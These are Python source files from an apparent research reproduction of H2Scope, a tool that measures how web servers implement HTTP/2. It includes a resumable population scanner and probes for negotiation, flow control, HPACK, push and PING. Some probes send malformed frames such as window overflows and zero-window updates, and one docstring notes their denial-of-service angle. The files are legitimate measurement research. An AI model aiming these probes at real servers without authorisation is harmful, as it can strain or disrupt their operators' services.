    if session is None:
        session = ProbeSession(backend)
        backend._session_cache = session
    return session
