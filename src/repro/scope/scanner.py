"""The population scanner (Section IV-B).

The paper's H2Scope scans with a poll()-based event loop and a thread
pool, one site per worker.  Here every site gets its own deterministic
simulation universe (clock + network + deployed origin), and
``workers`` shards those universes across real processes
(:mod:`repro.scope.parallel`): because a site's report is a pure
function of ``(seed + site_index)``, the merged results are
byte-identical for any worker count — the determinism contract
``tests/scope/test_parallel.py`` enforces.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable
from dataclasses import dataclass

from repro.net.clock import Simulation
from repro.net.faults import FaultPlan
from repro.net.transport import Network
from repro.scope.campaign import (
    CampaignInterrupted,
    CampaignJournal,
    CampaignManifest,
    CampaignResult,
    JournalEntry,
    SiteStatus,
)
from repro.scope.probes import (
    probe_hpack,
    probe_large_window_update,
    probe_negotiation,
    probe_ping,
    probe_priority,
    probe_push,
    probe_self_dependency,
    probe_settings,
    probe_tiny_window,
    probe_zero_window_headers,
    probe_zero_window_update,
)
from repro.scope.report import ErrorClass, SiteReport
from repro.scope.resilience import (
    ResilienceConfig,
    make_scan_error,
    run_resilient,
)
from repro.scope.session import as_session
from repro.scope.storage import ReportStore
from repro.servers.site import Site, deploy_site

#: Probe groups a scan can include.
ALL_PROBES = frozenset(
    {"negotiation", "settings", "flow_control", "priority", "push", "hpack", "ping"}
)

#: Default object paths for Algorithm 1 against population sites; the
#: generator guarantees these exist on every generated site.
PRIORITY_TEST_PATHS = [f"/prio/{label}.bin" for label in "abcdef"]
PRIORITY_DEPLETION_PATHS = [f"/prio/deplete{i}.bin" for i in range(4)]


def _validate_include(include: Iterable[str] | None) -> set[str]:
    include_set = set(include) if include is not None else set(ALL_PROBES)
    unknown = include_set - ALL_PROBES
    if unknown:
        raise ValueError(f"unknown probes: {sorted(unknown)}")
    return include_set


def report_has_dns_error(report: SiteReport) -> bool:
    """Whether any of the report's errors is DNS-classified."""
    return any(
        getattr(error, "error_class", None) is ErrorClass.DNS
        for error in report.errors
    )


@dataclass(frozen=True)
class ScanProgress:
    """One progress tick: completion, failures and a virtual-time ETA."""

    done: int
    total: int
    #: Sites whose report carries errors (failed + quarantined so far).
    errors: int = 0
    quarantined: int = 0
    #: Sites whose failure was name resolution (a subset of ``errors``;
    #: only wall-clock campaigns with a DNS stage produce these).
    dns_failures: int = 0
    #: Cumulative virtual seconds spent across per-site universes.
    virtual_seconds: float = 0.0

    @property
    def remaining(self) -> int:
        return self.total - self.done

    @property
    def eta_virtual_seconds(self) -> float:
        """Remaining virtual time, extrapolated from the per-site mean."""
        if self.done <= 0:
            return 0.0
        return self.virtual_seconds / self.done * self.remaining


class ProgressAggregator:
    """Order-independent progress accounting for sharded scans.

    Parallel workers complete sites in whatever order the scheduler
    produces, so ticks must be derived from *counters over completion
    events*, never from the index of the most recent result (the old
    serial assumption).  Feeding the same set of reports in any order
    yields the same final :class:`ScanProgress`, and every intermediate
    tick carries correct done/error/quarantine counts and a
    virtual-time ETA extrapolated from the per-site mean.
    """

    def __init__(
        self,
        total: int,
        done: int = 0,
        errors: int = 0,
        quarantined: int = 0,
        dns_failures: int = 0,
        virtual_seconds: float = 0.0,
    ):
        self.total = total
        self.done = done
        self.errors = errors
        self.quarantined = quarantined
        self.dns_failures = dns_failures
        self.virtual_seconds = virtual_seconds

    def record(self, report: SiteReport, quarantined: bool = False) -> None:
        """Fold one completed site in; callable in any completion order."""
        self.done += 1
        if report.failed:
            self.errors += 1
        if quarantined:
            self.quarantined += 1
        if report_has_dns_error(report):
            self.dns_failures += 1
        self.virtual_seconds += report.scan_virtual_time

    def snapshot(self) -> ScanProgress:
        return ScanProgress(
            done=self.done,
            total=self.total,
            errors=self.errors,
            quarantined=self.quarantined,
            dns_failures=self.dns_failures,
            virtual_seconds=self.virtual_seconds,
        )


def probe_target(
    session,
    domain: str,
    include: Iterable[str] | None = None,
    seed: int = 0,
    priority_test_paths: list[str] | None = None,
    priority_depletion_paths: list[str] | None = None,
    resilience: ResilienceConfig | None = None,
    known_paths=None,
    report: SiteReport | None = None,
) -> SiteReport:
    """Run the probe suite against one target over any backend.

    This is the backend-agnostic core of :func:`scan_site`: ``session``
    is a :class:`~repro.scope.session.ProbeSession` (or anything
    ``as_session`` accepts), so the same suite runs against a simulated
    universe or a real server over sockets.  ``known_paths``, when
    given, gates Algorithm 1 on the test objects actually existing on
    the target (the population scanner passes the site's website); when
    None the priority probe is attempted unconditionally.  If the
    session carries a :class:`~repro.scope.trace.TraceRecorder`, each
    probe's received frames are recorded under the probe's name.
    """
    include_set = _validate_include(include)
    session = as_session(session)
    if report is None:
        report = SiteReport(domain=domain)

    def guarded(name: str, fn: Callable[[], None]) -> None:
        trace = session.trace
        if trace is not None:
            trace.begin(name)
        try:
            if resilience is None:
                try:
                    fn()
                except Exception as exc:  # noqa: BLE001 - scans survive anything
                    report.errors.append(make_scan_error(name, exc))
                return
            attempts, error = run_resilient(
                session.backend, name, fn, resilience, seed=seed
            )
            report.probe_attempts[name] = attempts
            if error is not None:
                report.errors.append(error)
        finally:
            if trace is not None:
                trace.end()

    if "negotiation" in include_set:
        guarded(
            "negotiation",
            lambda: setattr(
                report, "negotiation", probe_negotiation(session, domain)
            ),
        )
        if not report.speaks_h2:
            return report

    if "settings" in include_set:
        guarded(
            "settings",
            lambda: setattr(report, "settings", probe_settings(session, domain)),
        )

    if "flow_control" in include_set:

        def run_flow_control() -> None:
            fc = report.flow_control
            fc.tiny_window, fc.first_data_size, _ = probe_tiny_window(
                session, domain, sframe=1
            )
            fc.headers_with_zero_window = probe_zero_window_headers(
                session, domain
            )
            fc.zero_update_stream, fc.zero_update_debug_data = (
                probe_zero_window_update(session, domain, level="stream")
            )
            fc.zero_update_connection, _ = probe_zero_window_update(
                session, domain, level="connection"
            )
            fc.large_update_stream = probe_large_window_update(
                session, domain, level="stream"
            )
            fc.large_update_connection = probe_large_window_update(
                session, domain, level="connection"
            )

        guarded("flow_control", run_flow_control)

    if "priority" in include_set:

        def run_priority() -> None:
            test_paths = priority_test_paths or PRIORITY_TEST_PATHS
            depletion = priority_depletion_paths or PRIORITY_DEPLETION_PATHS
            if known_paths is None or all(
                path in known_paths for path in test_paths
            ):
                report.priority = probe_priority(
                    session, domain, test_paths, depletion
                )
            report.priority.self_dependency = probe_self_dependency(
                session, domain
            )

        guarded("priority", run_priority)

    if "push" in include_set:
        guarded(
            "push",
            lambda: setattr(report, "push", probe_push(session, domain)),
        )

    if "hpack" in include_set:
        guarded(
            "hpack",
            lambda: setattr(report, "hpack", probe_hpack(session, domain)),
        )

    if "ping" in include_set:
        guarded(
            "ping",
            lambda: setattr(report, "ping", probe_ping(session, domain)),
        )

    return report


def scan_site(
    site: Site,
    include: Iterable[str] | None = None,
    seed: int = 0,
    priority_test_paths: list[str] | None = None,
    priority_depletion_paths: list[str] | None = None,
    fault_plan: FaultPlan | None = None,
    resilience: ResilienceConfig | None = None,
    backend_factory: Callable[[Network], object] | None = None,
) -> SiteReport:
    """Probe one site inside a fresh simulation universe.

    ``fault_plan`` injects deterministic network hostility into the
    universe; ``resilience`` runs every probe under a virtual-time
    deadline and retries transient failures with exponential backoff.
    Without ``resilience`` the legacy single-shot semantics apply.

    ``backend_factory`` lets a scheduler substitute the universe's
    :class:`~repro.net.backend.SimulatedBackend` with its own wrapper
    (the interleaved backend from :mod:`repro.scope.concurrent`); the
    substitute must be observationally identical for this universe, so
    the report stays a pure function of ``(site, include, seed,
    fault_plan, resilience)``.
    """
    _validate_include(include)

    report = SiteReport(domain=site.domain)
    sim = Simulation()
    network = Network(sim, seed=seed, fault_plan=fault_plan)
    if backend_factory is not None:
        # Pre-seed as_backend's per-network cache so every probe in
        # this universe waits through the substitute backend.
        network._backend_cache = backend_factory(network)
    try:
        deploy_site(network, site)
    except Exception as exc:  # noqa: BLE001 - a poisoned site must not
        # abort the scan; record the setup failure and move on.
        report.errors.append(make_scan_error("setup", exc))
        report.scan_virtual_time = sim.now
        return report

    probe_target(
        network,
        site.domain,
        include=include,
        seed=seed,
        priority_test_paths=priority_test_paths,
        priority_depletion_paths=priority_depletion_paths,
        resilience=resilience,
        known_paths=site.website,
        report=report,
    )
    report.scan_virtual_time = sim.now
    return report


def scan_population(
    sites: list[Site],
    include: Iterable[str] | None = None,
    seed: int = 0,
    workers: int = 1,
    progress: Callable[[ScanProgress], None] | None = None,
    fault_plan: FaultPlan | None = None,
    resilience: ResilienceConfig | None = None,
    concurrency: int = 1,
) -> list[SiteReport]:
    """Scan every site; ``workers`` > 1 shards across processes and
    ``concurrency`` > 1 keeps that many sessions in flight per process
    (:mod:`repro.scope.concurrent`), composing multiplicatively.
    ``concurrency`` is clamped to the scheduler's 16384-lane ceiling;
    within it, only ``LANE_POOL_SIZE`` lanes are ever mid-scan at once,
    so memory stays O(pool) regardless of the admission width.

    Sites are independent simulations seeded by ``(seed + index)``, so
    neither ordering, sharding nor interleaving can affect results:
    reports come back in input order and are byte-identical for any
    worker count and any concurrency level.
    Per-site isolation is total: any exception a site's setup or scan
    raises becomes an error-bearing :class:`SiteReport` instead of
    aborting the scan.  ``progress`` receives one order-independent
    :class:`ScanProgress` tick per completed site (in completion order,
    which under sharding is not input order) carrying error counts and
    a virtual-time ETA alongside ``(done, total)``.
    """
    _validate_include(include)  # a caller bug, not a per-site failure
    from repro.scope.parallel import ParallelCampaignRunner, SiteTask

    runner = ParallelCampaignRunner(
        sites,
        workers=workers,
        include=include,
        seed=seed,
        fault_plan=fault_plan,
        resilience=resilience,
        concurrency=concurrency,
    )
    tasks = [
        SiteTask(position=index, site_index=index, domain=site.domain)
        for index, site in enumerate(sites)
    ]
    reports: list[SiteReport | None] = [None] * len(sites)
    tracker = ProgressAggregator(total=len(sites))
    for result in runner.iter_unordered(tasks):
        reports[result.task.site_index] = result.report
        tracker.record(result.report)
        if progress is not None:
            progress(tracker.snapshot())
    return reports  # type: ignore[return-value] - every slot is filled


def run_campaign(
    sites: list[Site],
    store: ReportStore,
    campaign: str,
    include: Iterable[str] | None = None,
    seed: int = 0,
    fault_plan: FaultPlan | None = None,
    resilience: ResilienceConfig | None = None,
    resume: bool = False,
    checkpoint_every: int = 25,
    max_site_attempts: int = 3,
    workers: int = 1,
    concurrency: int = 1,
    progress: Callable[[ScanProgress], None] | None = None,
) -> CampaignResult:
    """Journaled, crash-safe population scan.

    A streaming variant of :func:`scan_population`: results are flushed
    to ``store`` every ``checkpoint_every`` sites in one transaction
    (reports + journal rows together), so an interrupt or crash loses at
    most one unflushed batch of work — and loses it *recoverably*,
    because ``resume=True`` skips completed sites and retries failed
    ones with their original ``(seed + site_index)`` universe, making
    the merged reports byte-identical to an uninterrupted run.

    ``workers`` > 1 shards the pending sites across that many scan
    processes (:mod:`repro.scope.parallel`) and ``concurrency`` > 1
    keeps that many sessions in flight inside each process
    (:mod:`repro.scope.concurrent`; clamped to 16384 lanes, of which at
    most the lane pool is mid-scan at once), for ``workers x
    concurrency`` total in-flight sessions; this process stays the sole
    SQLite
    writer and journals completions in todo order, so the stored bytes
    are identical for any worker count, concurrency level, kill point
    and fault plan — and neither knob is part of the manifest, so a
    campaign may be resumed with different values.

    Failed sites are retried across resumes until ``max_site_attempts``
    is exhausted, then quarantined (the circuit breaker): their last
    report stays in the store, but no further scan time is spent.

    Raises :class:`~repro.scope.campaign.CampaignInterrupted` on
    SIGINT/KeyboardInterrupt after flushing everything scanned so far,
    and :class:`~repro.scope.campaign.ManifestMismatch` when resuming
    with a configuration the journal contradicts.
    """
    include_set = _validate_include(include)
    from repro.scope.parallel import ParallelCampaignRunner, SiteTask
    journal = CampaignJournal(store)
    manifest = CampaignManifest.build(
        campaign, sites, include_set, seed, fault_plan, resilience
    )
    if resume:
        journal.resume(manifest, max_site_attempts)
    else:
        journal.begin(manifest, [site.domain for site in sites])

    todo = journal.pending(campaign, max_site_attempts)
    counts = journal.counts(campaign)
    virtual_seconds = journal.virtual_seconds(campaign)
    dns_failures = journal.dns_failures(campaign)
    total = len(sites)
    skipped = total - len(todo)

    def emit() -> None:
        # ``done`` counts sites with a journaled terminal status, so a
        # resume's first tick already credits everything scanned before
        # the interrupt (retries of failed sites keep it flat, not double).
        if progress is not None:
            progress(
                ScanProgress(
                    done=total - counts[SiteStatus.PENDING.value],
                    total=total,
                    errors=counts[SiteStatus.FAILED.value]
                    + counts[SiteStatus.QUARANTINED.value],
                    quarantined=counts[SiteStatus.QUARANTINED.value],
                    dns_failures=dns_failures,
                    virtual_seconds=virtual_seconds,
                )
            )

    runner = ParallelCampaignRunner(
        sites,
        workers=workers,
        include=include_set,
        seed=seed,
        fault_plan=fault_plan,
        resilience=resilience,
        max_worker_crashes=max_site_attempts,
        concurrency=concurrency,
    )
    tasks = [
        SiteTask(
            position=position,
            site_index=site_index,
            domain=domain,
            prior_attempts=prior_attempts,
        )
        for position, (site_index, domain, prior_attempts) in enumerate(todo)
    ]

    batch: list[JournalEntry] = []
    scanned = 0
    # iter_ordered releases completions in todo order, so the batches —
    # and therefore the journal's write sequence — are byte-identical
    # to a serial run's, whatever the workers are doing.
    results = runner.iter_ordered(tasks)
    try:
        for result in results:
            report = result.report
            attempts = result.task.prior_attempts + 1
            if not report.failed:
                status = SiteStatus.DONE
            elif attempts >= max_site_attempts:
                status = SiteStatus.QUARANTINED
            else:
                status = SiteStatus.FAILED
            batch.append(
                JournalEntry(
                    site_index=result.task.site_index,
                    domain=result.task.domain,
                    status=status,
                    attempts=attempts,
                    report=report,
                    virtual_time=report.scan_virtual_time,
                    error=str(report.errors[0]) if report.failed else None,
                )
            )
            scanned += 1
            if result.task.prior_attempts > 0:  # a retried failure leaves 'failed'
                counts[SiteStatus.FAILED.value] -= 1
            else:
                counts[SiteStatus.PENDING.value] -= 1
            counts[status.value] += 1
            if report.failed and report_has_dns_error(report):
                dns_failures += 1
            virtual_seconds += report.scan_virtual_time
            if len(batch) >= max(1, checkpoint_every):
                journal.checkpoint(campaign, batch)
                batch = []
            emit()
    except (KeyboardInterrupt, SystemExit):
        journal.checkpoint(campaign, batch)
        raise CampaignInterrupted(
            campaign, flushed=scanned, remaining=len(todo) - scanned
        ) from None
    finally:
        results.close()  # tears the worker pool down on any exit path
    journal.checkpoint(campaign, batch)
    return CampaignResult(
        campaign=campaign,
        total=total,
        scanned=scanned,
        skipped=skipped,
        counts=journal.counts(campaign),
        virtual_seconds=virtual_seconds,
    )
