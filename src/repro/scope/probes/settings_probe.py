"""SETTINGS probe (§III-A2, results in §V-C / Tables V-VII / Fig. 2).

Records exactly which parameters the server's SETTINGS frame announced.
Sites that never send SETTINGS populate the paper's NULL rows; defined
parameters left unannounced fall into the "default"/"unlimited" rows.
"""

from __future__ import annotations

from repro.h2 import events as ev
from repro.scope.report import SettingsResult
from repro.scope.session import as_session


def probe_settings(session, domain: str, timeout: float = 8.0) -> SettingsResult:
    session = as_session(session)
    result = SettingsResult()
    client = session.client(domain)
    if not client.establish_h2(timeout=timeout):
        client.close()
        return result

    frames = client.events_of(ev.SettingsReceived)
    if frames:
        result.settings_frame_received = True
        # Later frames may refine earlier announcements; last writer wins.
        for timed in frames:
            for identifier, value in timed.event.settings:
                result.announced[identifier] = value
    client.close()
    return result
