"""Flow-control probes (§III-B, results in §V-D).

Four sub-probes:

1. **Controlling DATA frames** — announce a tiny
   SETTINGS_INITIAL_WINDOW_SIZE (``Sframe``) and check that the
   response DATA frame is exactly that big (the DoS-angle the paper
   highlights: a malicious receiver can pin a server's memory).
2. **Zero initial window on HEADERS** — with a zero window a compliant
   server still returns HEADERS, since flow control governs only DATA.
3. **Zero window update** — send WINDOW_UPDATE with increment 0 and
   classify the reaction (RST_STREAM / GOAWAY / ignore).
4. **Large window update** — overflow the window past 2^31-1 with two
   updates and classify the reaction.
"""

from __future__ import annotations

from repro.h2 import events as ev
from repro.h2.constants import MAX_WINDOW_SIZE, SettingCode
from repro.scope.client import ScopeClient
from repro.scope.report import ErrorReaction, TinyWindowResult
from repro.scope.session import as_session

IWS = int(SettingCode.INITIAL_WINDOW_SIZE)


def probe_tiny_window(
    session,
    domain: str,
    sframe: int = 1,
    path: str = "/",
    timeout: float = 8.0,
) -> tuple[TinyWindowResult, int | None, bool]:
    """§III-B1.  Returns (category, first DATA size, headers_received)."""
    client = as_session(session).client(domain, settings={IWS: sframe})
    if not client.establish_h2(timeout=timeout):
        client.close()
        return TinyWindowResult.NO_RESPONSE, None, False

    stream_id = client.request(path)
    client.wait_for(
        lambda: any(
            te.event.stream_id == stream_id
            for te in client.events_of(ev.DataReceived)
        ),
        timeout=timeout,
    )
    data_events = [
        te
        for te in client.events_of(ev.DataReceived)
        if te.event.stream_id == stream_id
    ]
    headers_received = client.headers_for(stream_id) is not None
    client.close()

    if not data_events:
        return TinyWindowResult.NO_RESPONSE, None, headers_received
    first_size = len(data_events[0].event.data)
    if first_size == 0:
        return TinyWindowResult.ZERO_LENGTH_DATA, 0, headers_received
    return TinyWindowResult.WINDOW_SIZED_DATA, first_size, headers_received


def probe_zero_window_headers(
    session, domain: str, path: str = "/", timeout: float = 8.0
) -> bool | None:
    """§III-B2.  True iff HEADERS arrive while the window is zero.

    Returns None when HTTP/2 could not be established at all.
    """
    client = as_session(session).client(domain, settings={IWS: 0})
    if not client.establish_h2(timeout=timeout):
        client.close()
        return None
    stream_id = client.request(path)
    client.wait_for(
        lambda: client.headers_for(stream_id) is not None, timeout=timeout
    )
    headers = client.headers_for(stream_id) is not None
    got_data = any(
        te.event.stream_id == stream_id and te.event.data
        for te in client.events_of(ev.DataReceived)
    )
    client.close()
    # Compliance requires headers *without* data.
    return headers and not got_data


def probe_zero_window_update(
    session,
    domain: str,
    level: str = "stream",
    path: str = "/big.bin",
    timeout: float = 8.0,
) -> tuple[ErrorReaction | None, bytes]:
    """§III-B3.  Returns (reaction, GOAWAY debug data if any)."""
    # A one-octet window keeps the response stream alive and blocked,
    # so the server definitely still knows the stream when the bogus
    # update arrives.
    client = as_session(session).client(domain, settings={IWS: 1})
    if not client.establish_h2(timeout=timeout):
        client.close()
        return None, b""
    stream_id = client.request(path)
    client.wait_for(
        lambda: client.headers_for(stream_id) is not None, timeout=timeout / 2
    )

    target = 0 if level == "connection" else stream_id
    client.send_window_update(target, 0)

    reaction = _await_reaction(client, stream_id, timeout)
    debug = b""
    for te in client.events_of(ev.GoAwayReceived):
        debug = te.event.debug_data
    client.close()
    return reaction, debug


def probe_large_window_update(
    session,
    domain: str,
    level: str = "stream",
    path: str = "/big.bin",
    timeout: float = 8.0,
) -> ErrorReaction | None:
    """§III-B4: two WINDOW_UPDATEs whose sum exceeds 2^31-1."""
    client = as_session(session).client(domain, settings={IWS: 1})
    if not client.establish_h2(timeout=timeout):
        client.close()
        return None
    stream_id = client.request(path)
    client.wait_for(
        lambda: client.headers_for(stream_id) is not None, timeout=timeout / 2
    )

    target = 0 if level == "connection" else stream_id
    half = MAX_WINDOW_SIZE // 2 + 1
    # Both frames leave in one flight so the window cannot drain between
    # them; their sum exceeds 2^31-1 regardless of the starting window.
    assert client.conn is not None
    client.conn.send_window_update(target, half)
    client.conn.send_window_update(target, half)
    client.flush()

    reaction = _await_reaction(client, stream_id, timeout)
    client.close()
    return reaction


def _await_reaction(
    client: ScopeClient, stream_id: int, timeout: float
) -> ErrorReaction:
    """Wait for RST_STREAM / GOAWAY; silence within ``timeout`` = ignore."""

    def saw_reaction() -> bool:
        return any(
            (isinstance(te.event, ev.StreamReset) and te.event.stream_id == stream_id)
            or isinstance(te.event, ev.GoAwayReceived)
            for te in client.events
        )

    client.wait_for(saw_reaction, timeout=timeout)
    for te in client.events:
        if isinstance(te.event, ev.StreamReset) and te.event.stream_id == stream_id:
            return ErrorReaction.RST_STREAM
        if isinstance(te.event, ev.GoAwayReceived):
            return ErrorReaction.GOAWAY
    return ErrorReaction.IGNORE
