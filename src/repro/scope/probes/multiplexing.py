"""Request-multiplexing probe (§III-A1).

Send N simultaneous requests for *large* objects and watch the DATA
frame arrival pattern.  If the server processes requests in parallel,
responses from the N streams interleave; a serial server completes
stream *i* entirely before stream *i+1* begins.

The paper runs this only in the testbed (small objects finish too fast
to show interleaving against arbitrary sites), and we keep that scoping:
the caller supplies paths to large objects.
"""

from __future__ import annotations

from repro.h2 import events as ev
from repro.scope.report import MultiplexingResult
from repro.scope.session import as_session


def probe_multiplexing(
    session,
    domain: str,
    paths: list[str],
    timeout: float = 120.0,
) -> MultiplexingResult:
    session = as_session(session)
    result = MultiplexingResult(streams=len(paths))
    client = session.client(domain, auto_window_update=True)
    if not client.establish_h2():
        client.close()
        return result

    # N must stay below the server's MAX_CONCURRENT_STREAMS (§III-A1).
    assert client.conn is not None
    limit = client.conn.remote_settings.max_concurrent_streams
    if limit is not None and len(paths) >= limit:
        paths = paths[: max(1, limit - 1)]
        result.streams = len(paths)

    stream_ids = [client.request(path) for path in paths]
    wanted = set(stream_ids)
    client.wait_for(
        lambda: wanted
        <= {
            te.event.stream_id
            for te in client.events_of(ev.StreamEnded)
        },
        timeout=timeout,
    )

    pattern = [
        te.event.stream_id
        for te in client.events_of(ev.DataReceived)
        if te.event.stream_id in wanted and te.event.data
    ]
    result.arrival_pattern = pattern
    result.interleaved = _is_interleaved(pattern)
    client.close()
    return result


def _is_interleaved(pattern: list[int]) -> bool:
    """True if any two streams' DATA spans overlap in arrival order."""
    first: dict[int, int] = {}
    last: dict[int, int] = {}
    for index, sid in enumerate(pattern):
        first.setdefault(sid, index)
        last[sid] = index
    sids = list(first)
    for i, a in enumerate(sids):
        for b in sids[i + 1 :]:
            if first[a] < last[b] and first[b] < last[a]:
                return True
    return False
