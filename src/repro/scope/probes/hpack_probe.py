"""HPACK probe (§III-E, Eq. 1; results in §V-G / Figs. 4-5).

Send ``H`` identical requests and record the wire size of each response
header block.  A server that maintains its dynamic table correctly
replaces repeated response fields with indices, so blocks 2..H are much
smaller than the first and the compression ratio

    r = sum(S_i) / (S_1 * H)

is small.  A server that never indexes response fields (Nginx, Tengine,
IdeaWebServer) sends equal-sized blocks: r = 1.  Sites that inject a
fresh cookie per response produce r > 1 and are filtered out by the
analysis layer, exactly as the paper filters them from Figs. 4-5.
"""

from __future__ import annotations

from repro.scope.report import HpackResult
from repro.scope.session import as_session


def probe_hpack(
    session,
    domain: str,
    path: str = "/",
    repetitions: int = 8,
    timeout: float = 10.0,
) -> HpackResult:
    session = as_session(session)
    result = HpackResult(requests=repetitions)
    client = session.client(domain, auto_window_update=True)
    if not client.establish_h2():
        client.close()
        return result

    sizes: list[int] = []
    for _ in range(repetitions):
        stream_id = client.request(path)
        client.wait_for(
            lambda: client.headers_for(stream_id) is not None, timeout=timeout
        )
        event = client.headers_for(stream_id)
        if event is None:
            break
        sizes.append(event.encoded_size)

    client.close()
    result.header_sizes = sizes
    if len(sizes) == repetitions and sizes[0] > 0:
        result.ratio = sum(sizes) / (sizes[0] * repetitions)
    return result
