"""Server-push probe (§III-D, results in §V-F).

Push is optional, so the probe first announces SETTINGS_ENABLE_PUSH=1,
then browses pages; receipt of any PUSH_PROMISE frame means the server
pushes.  The paper browsed the front page (only six sites pushed in the
first experiment) and other URLs (nothing pushed).
"""

from __future__ import annotations

from repro.h2 import events as ev
from repro.scope.report import PushResult
from repro.scope.session import as_session


def probe_push(
    session,
    domain: str,
    pages: list[str] | None = None,
    timeout: float = 20.0,
) -> PushResult:
    session = as_session(session)
    result = PushResult()
    pages = pages or ["/"]
    client = session.client(domain, enable_push=True, auto_window_update=True)
    if not client.establish_h2():
        client.close()
        return result

    for page in pages:
        stream_id = client.request(page)
        client.wait_for(
            lambda: any(
                isinstance(te.event, ev.StreamEnded)
                and te.event.stream_id == stream_id
                for te in client.events
            ),
            timeout=timeout,
        )
    # Allow promised streams to finish delivering.
    client.settle(quiet_period=0.5, timeout=timeout)

    for te in client.events_of(ev.PushPromiseReceived):
        result.push_received = True
        for name, value in te.event.headers:
            if name == b":path":
                result.promised_paths.append(value.decode("latin-1"))
    client.close()
    return result
