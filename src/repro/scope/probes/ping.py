"""RTT probes (§III-F, results in §V-H / Fig. 6).

Four estimators against the same target:

* **h2-ping** — HTTP/2 PING round trip.  The RFC suggests PING
  responses get priority over everything else, so the turnaround is
  nearly kernel-fast.
* **tcp-rtt** — SYN → SYN/ACK interval of the TCP handshake.
* **icmp** — classic ICMP echo.
* **h2-request** — HTTP/1.1 request → first response byte; inflated by
  server-side request processing, which is the effect Fig. 6 shows.
"""

from __future__ import annotations

from repro.h2 import events as ev
from repro.scope.client import HTTP11
from repro.scope.report import PingResult
from repro.scope.session import as_session


def probe_ping(
    session,
    domain: str,
    samples: int = 3,
    timeout: float = 8.0,
) -> PingResult:
    session = as_session(session)
    result = PingResult()

    # -- HTTP/2 PING + TCP handshake RTT -----------------------------------
    client = session.client(domain)
    if client.establish_h2(timeout=timeout):
        result.tcp_rtt = client.tls.tcp_handshake_rtt
        rtts: list[float] = []
        for i in range(samples):
            payload = f"scope{i:03d}".encode()[:8].ljust(8, b"\x00")
            start = client.now
            client.send_ping(payload)

            def acked() -> bool:
                return any(
                    isinstance(te.event, ev.PingAckReceived)
                    and te.event.payload == payload
                    for te in client.events
                )

            if client.wait_for(acked, timeout=timeout):
                ack_time = next(
                    te.at
                    for te in client.events
                    if isinstance(te.event, ev.PingAckReceived)
                    and te.event.payload == payload
                )
                rtts.append(ack_time - start)
        if rtts:
            result.ping_supported = True
            result.h2_ping_rtt = sum(rtts) / len(rtts)
    client.close()

    # -- ICMP ------------------------------------------------------------------
    result.icmp_rtt = session.icmp_rtt(domain, count=samples)

    # -- HTTP/1.1 request ---------------------------------------------------------
    h1 = session.client(domain, alpn=[HTTP11], offer_npn=False)
    if h1.connect(timeout=timeout):
        tls = h1.tls_handshake(timeout=timeout)
        if tls.connected:
            h1_rtts = []
            for _ in range(samples):
                interval = h1.http1_get("/", timeout=timeout)
                if interval is not None:
                    h1_rtts.append(interval)
            if h1_rtts:
                result.http1_rtt = sum(h1_rtts) / len(h1_rtts)
    h1.close()
    return result
