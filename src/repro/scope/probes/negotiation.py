"""ALPN/NPN negotiation probe (Section IV-A, results in §V-B).

Two handshakes are attempted: one offering only ALPN and one offering
only NPN, mirroring how the paper separates the 49,334 NPN sites from
the 47,966 ALPN sites in the first experiment.  A third step uses
whichever mechanism worked to fetch ``/`` and record whether a HEADERS
frame comes back (the paper's 44,390 / 64,299 "HEADERS received"
populations) along with the ``server`` header used for Table IV.
"""

from __future__ import annotations

from repro.h2 import events as ev
from repro.scope.client import H2, HTTP11
from repro.scope.report import NegotiationResult
from repro.scope.session import as_session


def probe_negotiation(session, domain: str, timeout: float = 8.0) -> NegotiationResult:
    session = as_session(session)
    result = NegotiationResult()

    # -- ALPN-only handshake ------------------------------------------------
    alpn_client = session.client(domain, alpn=[H2, HTTP11], offer_npn=False)
    if not alpn_client.connect(timeout=timeout):
        return result
    result.tcp_connected = True
    tls = alpn_client.tls_handshake(timeout=timeout)
    result.tcp_handshake_rtt = tls.tcp_handshake_rtt
    result.alpn_h2 = tls.alpn_protocol == H2
    alpn_client.close()

    # -- NPN-only handshake ----------------------------------------------------
    npn_client = session.client(domain, alpn=[], offer_npn=True)
    if npn_client.connect(timeout=timeout):
        tls = npn_client.tls_handshake(timeout=timeout)
        result.npn_h2 = tls.npn_protocol == H2
    npn_client.close()

    # -- cleartext Upgrade: h2c (§IV-A's unencrypted path) -------------------
    h2c_client = session.client(domain, port=80)
    if h2c_client.connect(timeout=timeout):
        result.h2c_upgrade = h2c_client.upgrade_h2c("/", timeout=timeout)
    h2c_client.close()

    # -- fetch / over HTTP/2 ------------------------------------------------------
    if not (result.alpn_h2 or result.npn_h2):
        return result
    fetch = session.client(domain, auto_window_update=True)
    if fetch.establish_h2(timeout=timeout):
        stream_id = fetch.request("/")
        fetch.wait_for(
            lambda: fetch.headers_for(stream_id) is not None, timeout=timeout
        )
        headers_event = fetch.headers_for(stream_id)
        if headers_event is not None:
            result.headers_received = True
            for name, value in headers_event.headers:
                if name == b"server":
                    result.server_header = value.decode("latin-1")
                    break
        # Let the body finish so the connection winds down cleanly.
        fetch.wait_for(
            lambda: any(
                isinstance(te.event, ev.StreamEnded)
                and te.event.stream_id == stream_id
                for te in fetch.events
            ),
            timeout=timeout,
        )
    fetch.close()
    return result
