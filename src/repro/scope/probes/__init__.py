"""The H2Scope probe suite — one module per Section-III method.

Every probe is a function taking a :class:`~repro.scope.session.
ProbeSession` (or, for backward compatibility, anything
:func:`~repro.scope.session.as_session` accepts — a transport backend
or a simulated ``Network``) plus a target domain, and returning one of
the typed results from :mod:`repro.scope.report`.  Probes open their
own connections and leave the session reusable.

Layering rule: probe modules never import :mod:`repro.net.transport`
directly — all transport access goes through the session's backend.
A CI grep enforces this.
"""

from repro.scope.probes.negotiation import probe_negotiation
from repro.scope.probes.settings_probe import probe_settings
from repro.scope.probes.multiplexing import probe_multiplexing
from repro.scope.probes.flow_control import (
    probe_large_window_update,
    probe_tiny_window,
    probe_zero_window_headers,
    probe_zero_window_update,
)
from repro.scope.probes.priority import probe_priority, probe_self_dependency
from repro.scope.probes.push import probe_push
from repro.scope.probes.hpack_probe import probe_hpack
from repro.scope.probes.ping import probe_ping

__all__ = [
    "probe_hpack",
    "probe_large_window_update",
    "probe_multiplexing",
    "probe_negotiation",
    "probe_ping",
    "probe_priority",
    "probe_push",
    "probe_self_dependency",
    "probe_settings",
    "probe_tiny_window",
    "probe_zero_window_headers",
    "probe_zero_window_update",
]
