"""The H2Scope probe suite — one module per Section-III method.

Every probe is a function taking the simulated :class:`~repro.net.
transport.Network` plus a target domain and returning one of the typed
results from :mod:`repro.scope.report`.  Probes open their own
connections and leave the network reusable.
"""

